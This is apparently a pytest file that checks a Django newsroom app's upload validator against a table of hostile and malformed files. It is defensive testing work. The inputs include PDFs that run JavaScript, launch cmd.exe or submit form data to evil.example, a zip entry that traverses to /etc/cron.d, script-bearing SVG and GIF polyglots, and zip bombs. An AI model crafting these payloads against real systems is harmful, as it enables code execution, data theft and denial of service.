"""A table of odd and hostile files and what becomes of each: a sentence, or a harmless copy."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.utils.translation import override
from PIL import Image as PillowImage

from newsroom import images
from newsroom.models import StoredFile
from tests.factories import pdf_bytes, picture_bytes
from tests.odd_files import (
    HTML,
    KINDS,
    drawn,
    endless_scans,
    locked_zip,
    office,
    pages_without_end,
    png_claiming,
    text_bomb,
    with_two_documents,
    zip_of,
)
from tests.odd_files import pdf as odd_pdf
from tests.odd_files import pdf_with_packed_catalog as packed

pytestmark = pytest.mark.django_db

SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + b"\0" * 200
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600

REFUSED = {
    # what, name of the file, its bytes, the reason
    "a page that calls itself a PDF": ("a.pdf", HTML, "kind"),
    "nothing": ("a.pdf", b"", "empty"),
    "a program": ("a.pdf", b"MZ\x90\0" + b"\0" * 100, "kind"),
    "a PDF named as a page": ("a.html", pdf_bytes(), "extension"),
    "a PDF with a second extension": ("a.pdf.exe", pdf_bytes(), "extension"),
    "a PDF without an extension": ("pdf", pdf_bytes(), "extension"),
    "a PDF with a NUL in its name": ("a.pdf\0.exe", pdf_bytes(), "extension"),
    "a PDF after a page": ("a.pdf", HTML + pdf_bytes(), "kind"),
    "a PDF with a zip behind it": ("a.pdf", pdf_bytes() + zip_of({"a": "b"}), "pdf_tail"),
    "a PDF with a zip behind it that ends like a PDF": (
        "a.pdf",
        pdf_bytes() + zip_of({"a": "b"}) + b"%%EOF",
        "pdf_tail",
    ),
    "a PDF with a page behind it": ("a.pdf", pdf_bytes() + HTML, "pdf_tail"),
    "a PDF cut in the middle": ("a.pdf", pdf_bytes()[:300], "pdf_unreadable"),
    "a PDF of one line": ("a.pdf", b"%PDF-1.7\nnothing more", "pdf_unreadable"),
    "a PDF with its end only": ("a.pdf", b"%PDF-1.7\n%%EOF", "pdf_unreadable"),
    "a PDF without pages": (
        "a.pdf",
        odd_pdf(pages="<< /Type /Pages /Kids [] /Count 0 >>"),
        "pdf_unreadable",
    ),
    "a PDF of a million million pages": ("a.pdf", pages_without_end(), "pdf_unreadable"),
    "a locked PDF": (
        "a.pdf",
        odd_pdf(
            objects=(f"<< /Filter /Standard /V 1 /R 2 /P -44 /O <{'00' * 32}> /U <{'00' * 32}> >>",),
            trailer="/Encrypt 4 0 R /ID [<00> <00>]",
        ),
        "pdf_locked",
    ),
    "a PDF that runs a script when opened": ("a.pdf", odd_pdf(f"/OpenAction {SCRIPT}"), "pdf_script"),
    "a PDF with a list of scripts": (
        "a.pdf",
        odd_pdf("/Names << /JavaScript 4 0 R >>", objects=(f"<< /Names [(a) {SCRIPT}] >>",)),
        "pdf_script",
    ),
    "a PDF whose script is spelled with a code": (
        "a.pdf",
        odd_pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "pdf_script",
    ),
    "a PDF whose script is packed away": ("a.pdf", packed(f"/OpenAction {SCRIPT}"), "pdf_script"),
    "a PDF with a script after a harmless action": (
        "a.pdf",
        packed(f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [{SCRIPT}] >>"),
        "pdf_script",
    ),
    "a PDF with a form of scripts": ("a.pdf", packed("/AcroForm << /XFA [(a) (b)] /Fields [] >>"), "pdf_script"),
    "a PDF that starts a program": (
        "a.pdf",
        odd_pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "pdf_launch",
    ),
    "a PDF whose link starts a program": (
        "a.pdf",
        odd_pdf(page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A 4 0 R >>]", objects=("<< /S /Launch /F (a) >>",)),
        "pdf_launch",
    ),
    "a PDF that acts when a page is turned": (
        "a.pdf",
        odd_pdf(page="/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
        "pdf_acts",
    ),
    "a PDF that sends what is filled in": (
        "a.pdf",
        packed("/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
        "pdf_acts",
    ),
    "a PDF with a file inside": (
        "a.pdf",
        packed("/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>] >> >>"),
        "pdf_attached",
    ),
    "a PDF with a file pinned to a page": (
        "a.pdf",
        odd_pdf(page="/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]"),
        "pdf_attached",
    ),
    "a PDF with a film": ("a.pdf", odd_pdf(page="/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"), "pdf_media"),
    "a plain zip": ("a.docx", zip_of({"a.txt": "hello"}), "kind"),
    "the beginning of a zip": ("a.docx", b"PK\x03\x04" + b"\0" * 100, "broken"),
    "a DOCX cut in the middle": ("a.docx", office()[:200], "broken"),
    "a DOCX without its document": ("a.docx", office(without="word/document.xml"), "broken"),
    "a DOCX that says it is an XLSX": ("a.docx", office("xlsx"), "extension"),
    "a DOCX with macros": ("a.docx", office(parts={"word/vbaProject.bin": b"\0"}), "macros"),
    "a DOCM named DOCX": (
        "a.docx",
        office(content_type="application/vnd.ms-word.document.macroEnabled"),
        "macros",
    ),
    "a DOCX with a control that runs": ("a.docx", office(parts={"word/activeX/activeX1.bin": b"\0"}), "macros"),
    "an ODT with macros": ("a.odt", office("odt", parts={"Basic/Standard/Module1.xml": "<m/>"}), "macros"),
    "an ODT with a password": (
        "a.odt",
        office("odt", parts={"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "locked",
    ),
    "a DOCX that is a bomb": ("a.docx", office(parts={"word/a.xml": b"\0" * 30 * 2**20}), "bomb"),
    "a DOCX of eleven thousand parts": ("a.docx", office(parts={f"a{n}": b"" for n in range(11_000)}), "bomb"),
    "a DOCX that climbs out of its folder": ("a.docx", office(parts={"../../etc/cron.d/a": "x"}), "broken"),
    "a zip with a password": ("a.docx", locked_zip(), "locked"),
    "a zip with a password for all but its list": ("a.docx", locked_zip(but_the_first=True), "locked"),
    "a DOCX with two documents of one name": ("a.docx", with_two_documents(), "broken"),
    "an old DOC, or a DOCX with a password": ("a.docx", OLD_OFFICE, "old_office"),
    "a DOCX behind a GIF": ("a.docx", b"GIF89a" + office(), "kind"),
    "an SVG with a script": ("a.svg", SVG, "svg+xml"),
    "an SVG named as a PNG": ("a.png", b'<?xml version="1.0"?>\n' + SVG, "svg+xml"),
    "a picture of a telephone that browsers can't show": ("a.heic", HEIC, "heic"),
    "a GIF that is also a script": ("a.gif", b"GIF89a/*" + b"\0" * 50 + b"*/=1;alert(1)", "kind"),
    "PostScript": ("a.png", b"%!PS-Adobe-3.0 EPSF-3.0\n", "kind"),
    "a page with the first bytes of a PNG": ("a.png", b"\x89PNG\r\n\x1a\n" + HTML, "picture"),
    "a PNG cut short": ("a.png", picture_bytes()[:200], "picture"),
    "a JPEG cut short": ("a.jpg", picture_bytes(400, 300, "JPEG")[:500], "picture"),
    "a WebP cut short": ("a.webp", picture_bytes(400, 300, "WEBP")[:40], "picture"),
    "a picture of 2500 million points": ("a.png", png_claiming(50_000, 50_000), "picture"),
    "a picture of 64 million points": ("a.png", drawn(PillowImage.new("1", (8_000, 8_000)), "PNG"), "picture"),
    "a picture with a hundred million letters": ("a.png", text_bomb(), "picture"),
    "a JPEG that is drawn three thousand times": ("a.jpg", endless_scans(), "picture"),
    "a JPEG named as a PNG": ("a.png", picture_bytes(400, 300, "JPEG"), "extension"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_hostile_file_is_refused_with_a_sentence_and_leaves_nothing(case, settings, tmp_path):
    settings.DATA_DIR = tmp_path
    name, content, code = REFUSED[case]

    with pytest.raises(ValidationError) as refusal, override("en"):
        StoredFile.objects.store(ContentFile(content, name=name))

    assert refusal.value.code == code
    assert refusal.value.messages[0].endswith(".")
    assert not StoredFile.objects.exists()
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []


@pytest.mark.parametrize("case", [name for name, (_, _, code) in REFUSED.items() if code == "picture"])
def test_hostile_picture_is_refused_for_the_picture_bank_too(case):
    name, content, code = REFUSED[case]

    with pytest.raises(ValidationError) as refusal:
        images.store(ContentFile(content, name=name))

    assert refusal.value.code == code


ACCEPTED = {
    "a plain PDF": ("a.pdf", pdf_bytes()),
    "a PDF that opens at its first page": ("a.pdf", odd_pdf("/OpenAction [3 0 R /Fit]")),
    "a PDF with a link": (
        "a.pdf",
        odd_pdf(page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example) >> >>]"),
    ),
    "a PDF with a form to fill in": (
        "a.pdf",
        odd_pdf("/AcroForm << /Fields [4 0 R] >>", objects=("<< /FT /Tx /T (name) >>",)),
    ),
    "a PDF with an empty list of files": ("a.pdf", packed("/Names << /EmbeddedFiles << /Names [] >> >>")),
    "a PDF that speaks of JavaScript": ("a.pdf", pdf_bytes("About /JavaScript and /Launch in files")),
    "a PDF with zeros behind it": ("a.pdf", pdf_bytes() + b"\0\0\r\n\0"),
    "a PDF that loops": ("a.pdf", odd_pdf("/Outlines 4 0 R", objects=("<< /First 4 0 R /Next 4 0 R >>",))),
    **{f"a plain {kind.upper()}": (f"a.{kind}", office(kind)) for kind in KINDS},
}


@pytest.mark.parametrize("case", ACCEPTED)
def test_harmless_file_is_kept_as_it_came(case):
    name, content = ACCEPTED[case]

    stored = StoredFile.objects.store(ContentFile(content, name=name))

    assert stored.path.read_bytes() == content
    assert stored.original_name == name


def test_a_zip_that_lies_over_itself_is_a_bomb():
    whole = bytearray(office(parts={"word/a.xml": b"x" * 5000}))
    at = whole.rindex(b"PK\x01\x02")
    whole[at + 20 : at + 24] = (10**6).to_bytes(4, "little")

    with pytest.raises(ValidationError) as refusal:
        StoredFile.objects.store(ContentFile(bytes(whole), name="a.docx"))

    assert refusal.value.code == "bomb"
